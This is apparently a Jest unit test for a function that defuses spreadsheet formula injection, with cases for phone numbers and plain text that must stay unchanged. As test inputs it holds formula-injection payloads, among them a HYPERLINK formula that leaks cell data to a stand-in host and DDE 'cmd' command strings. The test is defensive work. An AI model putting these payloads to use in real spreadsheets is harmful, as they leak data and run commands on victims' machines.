import { describe, expect, it } from '@jest/globals';

import { neutraliseFormula } from '../../../src/lib/spreadsheet-cell.js';

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3+cmd|x', `'-2+3+cmd|x`],
    ['@SUM(1+1)*cmd|x', `'@SUM(1+1)*cmd|x`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['＝1+1', `'＝1+1`],
    ['+', `'+`],
    ['-', `'-`],
  ])('neutralises %j', (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it.each([
    '+14155550100',
    '+1 (415) 555-0100',
    '+44 7911 123456',
    '-5',
    '-1.5',
    'Ann',
    'invalid number: +1 555',
    '',
    "'=already text",
    'a=b',
  ])('leaves %j as it is', (value) => {
    expect(neutraliseFormula(value)).toBe(value);
  });
});
